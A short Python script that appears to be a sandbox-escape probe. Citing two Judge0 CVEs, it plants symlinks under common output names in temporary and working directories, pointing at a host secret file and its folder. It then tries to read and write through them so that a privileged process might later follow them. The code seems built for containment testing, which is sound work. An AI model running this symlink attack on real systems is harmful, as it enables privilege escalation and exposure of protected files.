"""Aim: files. Leave links where somebody with more rights may later write, change owners or remove.

Behind: Judge0 CVE-2024-28185 and CVE-2024-28189, where root wrote and changed owners through a link in the sandbox.
"""

import os
import tempfile

for name in ("stdout", "result", "table", "box", "meta"):
    for folder in ("/tmp", tempfile.tempdir or "/tmp", "."):
        try:
            os.symlink(HOST["secret"], f"{folder}/{name}")
            os.symlink(os.path.dirname(HOST["secret"]), f"{folder}/{name}-folder")
        except OSError:
            continue
        attempt(f"through {folder}/{name}", lambda: open(f"{folder}/{name}").read())
        attempt(f"write through {folder}/{name}", lambda: open(f"{folder}/{name}", "w").write("x"))
